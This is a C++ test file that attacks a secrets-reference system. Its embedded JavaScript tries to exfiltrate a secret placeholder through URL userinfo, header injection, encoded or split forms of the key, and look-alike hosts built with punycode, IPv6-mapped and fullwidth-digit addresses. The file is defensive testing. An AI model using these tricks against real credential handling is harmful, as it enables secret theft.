// References under attack: whatever a function does with a placeholder, the value goes to the place of the grant and
// nowhere else, and nothing of it comes back.
#include "functions/testing/secrets_fixture.h"

#include <algorithm>

namespace nsl::functions {
namespace {

using testing::FunctionSecrets;
using testing::kMarker;
using testing::kMasked;

class ReferencesUnderAttack : public FunctionSecrets {
 protected:
  // Requests with the value in them, in any form, on whichever server they arrived.
  std::size_t requests_with_the_value() {
    crypto::Scrubber value;
    value.add("KEY", as_bytes(kMarker));
    const auto all = seen();
    return static_cast<std::size_t>(
        std::ranges::count_if(all, [&](const std::string& request) { return value.finds(request); }));
  }

  // Tries each and gives the codes of the refusals, "sent" for what went out.
  Execution attempt(const std::string& attempts) {
    return run(R"(export default async (x, context) => {
      const key = context.secrets.reference('KEY');
      const token = key.split('.').pop();
      const rest = server.slice('http://'.length), port = rest.split(':')[1].replace('/', ''), otherRest = other.slice('http://'.length);
      const hex = (text) => [...text].map((c) => '%' + c.charCodeAt(0).toString(16)).join('');
      const attempts = [)" +
               attempts + R"(];
      const ends = [];
      for (const attempt of attempts) {
        try { await attempt(); ends.push('sent'); } catch (error) { ends.push(error.cause?.code ?? error.code ?? error.name); }
      }
      return ends;
    })");
  }
};

TEST_F(ReferencesUnderAttack, StandInNoPlaceThatOthersSee) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution = attempt(R"(
    () => fetch('http://' + key + '@' + rest), () => fetch('http://user:' + key + '@' + rest),
    () => fetch('http://' + key + '.' + rest), () => fetch('http://' + key + '/'),
    () => fetch('http://localhost:' + key + '/'), () => fetch(key + '://' + rest),
    () => fetch(server + '/a/' + key + '/b'), () => fetch(server + '/' + key + '?' + key),
    () => fetch(server + '/;' + key), () => fetch(server, { method: key }),
    () => fetch(server, { headers: { [key]: 'x' } }),
    () => fetch(server, { headers: { 'x-key': key + '\r\nx-other: 1' } }),
    () => fetch(server, { headers: { 'x-key': 'a\n ' + key } }))");
  EXPECT_EQ(execution.output.find("sent"), std::string::npos) << execution.output;
  EXPECT_EQ(requests_with_the_value(), 0u);
  expect_nowhere(execution);
}

TEST_F(ReferencesUnderAttack, AreFilledInExactlyAsTheyWereGivenOrNotAtAll) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution = attempt(R"(
    () => fetch(server + '/?q=' + hex(key)), () => fetch(server + '/?q=' + encodeURIComponent(hex(key))),
    () => fetch(server, { headers: { 'x-key': btoa(key) } }), () => fetch(server, { headers: { 'x-key': key.toUpperCase() } }),
    () => fetch(server, { headers: { 'x-key': [...key].reverse().join('') } }),
    () => fetch(server, { headers: { 'x-key': key.slice(0, -1) } }),
    () => fetch(server, { headers: { 'x-a': key.slice(0, 20), 'x-b': key.slice(20) } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref..' + token } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.../KEY.' + token } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.*.' + token } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.KEY .' + token } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.' + 'K'.repeat(5000) + '.' + token } }),
    () => fetch(server, { method: 'POST', body: new Uint8Array([...key].flatMap((c) => [c.charCodeAt(0), 0])) }))");
  EXPECT_EQ(requests_with_the_value(), 0u);
  EXPECT_TRUE(secrets->recorded().empty()) << execution.output;
  expect_nowhere(execution);
}

TEST_F(ReferencesUnderAttack, GoToNoHostThatOnlyLooksLikeTheGranted) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution = attempt(R"(
    ...[other, other + '/?' + rest, 'http://' + rest.replace('/', '') + '@' + otherRest, 'http://' + otherRest + '/#@' + rest,
     'http://localhost.:' + port, 'http://localhost.example.com:' + port, 'http://127.0.0.1.example.com:' + port,
     'http://\uff11\uff12\uff17.0.0.1.example.com:' + port, 'http://xn--127-0-0-1.example.com:' + port,
     'http://[::ffff:127.0.0.1]:' + port, 'http://0.0.0.0:' + port, 'http://127.0.0.2:' + port,
     'http://example.com\\@' + rest, 'https://example.com'].map(
       (url) => () => fetch(url, { headers: { 'x-key': key } })))");
  EXPECT_EQ(execution.output.find("sent"), std::string::npos) << execution.output;
  EXPECT_EQ(requests_with_the_value(), 0u);
  expect_nowhere(execution);
}

TEST_F(ReferencesUnderAttack, InsideOfReferencesAreFilledInOnce) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution = attempt(R"(
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.KEY.' + key } }),
    () => fetch(server, { headers: { 'x-key': 'nsl_secret_ref.' + key + '.' + token } }),
    () => fetch(server, { headers: { 'x-key': key + key } }))");
  EXPECT_EQ(execution.output, R"(["sent","sent","sent"])");
  EXPECT_EQ(requests_with_the_value(), 3u);
  expect_nowhere(execution);
}

TEST_F(ReferencesUnderAttack, AValueThatLooksLikeAReferenceIsText) {
  known_secrets.with([&](auto& known) {
    known = {
        {.name = "KEY", .value = "nsl_secret_ref.B.00000000000000000000000000000000", .hosts = {server.authority()}},
        {.name = "B", .value = std::string(kMarker), .hosts = {other.authority()}}};
  });
  const Execution execution = attempt("() => fetch(server, { headers: { 'x-key': key } })");
  EXPECT_EQ(execution.output, R"(["sent"])");
  EXPECT_EQ(requests_with_the_value(), 0u);
}

TEST_F(ReferencesUnderAttack, OfOneRequestAreBounded) {
  know(vault::Exposure::kReference, {server.authority()});
  const Execution execution = attempt(R"(
    () => fetch(server, { method: 'POST', body: Array.from({ length: 200 }, (_, i) => context.secrets.reference('K' + i)).join() }))");
  EXPECT_EQ(execution.output, R"(["invalid_argument"])");
  EXPECT_TRUE(seen().empty());
}

}  // namespace
}  // namespace nsl::functions
